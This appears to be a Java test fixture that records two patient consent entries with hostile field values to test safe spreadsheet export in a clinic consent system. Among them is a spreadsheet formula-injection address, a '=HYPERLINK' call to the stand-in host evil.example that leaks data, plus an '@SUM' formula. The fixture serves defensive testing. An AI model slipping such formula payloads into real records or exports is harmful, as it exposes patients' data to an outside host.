package org.exoconsent.records;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.file.Path;
import org.exoconsent.testing.Examples;

/**
 * Issue 14 §3: consents whose patients' details are what turned a spreadsheet against the clinic — a patient number
 * and a telephone number with leading zeros, an international number that Excel computes, and addresses that a
 * spreadsheet would run as formulas (a live link that leaks, an {@code @} function).
 */
public final class HostileRecords {
    public static final String PATIENT_NUMBER = "0012345";
    public static final String LANDLINE = "0312345678";
    public static final String INTERNATIONAL = "+81-90-1234-5678";
    public static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak\",\"詳細\")";
    public static final String AT_FUNCTION = "@SUM(1+1)";
    /** 佐藤 花子's consultation: 2026-11-20 10:00 in Tokyo. */
    public static final String JA_NAME = "佐藤 花子";

    private HostileRecords() {
    }

    /**
     * Records two consents into a new data directory under {@code data}: {@code h-1} (Japanese; 0012345,
     * 0312345678, the HYPERLINK address) and {@code h-2} (English; +81-90-1234-5678, the {@code @} address).
     *
     * @return the store, open as a person with every role
     */
    public static RecordStore record(Path data) throws Exception {
        DataDirectory dir = new DataDirectory(data);
        // recorded once per JVM, copied into each new data directory (TestAccounts#copied)
        if (TestAccounts.copied(dir, "HostileRecords: h-1 and h-2", Examples.CLOCK, d -> {
            try (RecordStore store = TestAccounts.open(d, Examples.CLOCK, "test")) {
                recordBoth(store);
            }
        })) {
            return TestAccounts.open(dir, Examples.CLOCK, "test");
        }
        RecordStore store = TestAccounts.open(dir, Examples.CLOCK, "test");
        recordBoth(store);
        return store;
    }

    private static void recordBoth(RecordStore store) throws Exception {
        ObjectNode ja = Examples.json("complete-ja");
        ja.put("id", "h-1");
        ObjectNode p = (ObjectNode) ja.get("patient");
        p.put("patientNumber", PATIENT_NUMBER);
        p.put("phone", LANDLINE);
        p.put("address", HYPERLINK);
        TestAccounts.record(store, Examples.session(ja), Examples.template(), Examples.key(), "h-1");
        ObjectNode en = Examples.json("complete-en");
        en.put("id", "h-2");
        ObjectNode q = (ObjectNode) en.get("patient");
        q.put("phone", INTERNATIONAL);
        q.put("address", AT_FUNCTION);
        TestAccounts.record(store, Examples.session(en), Examples.template(), Examples.key(), "h-2");
    }
}
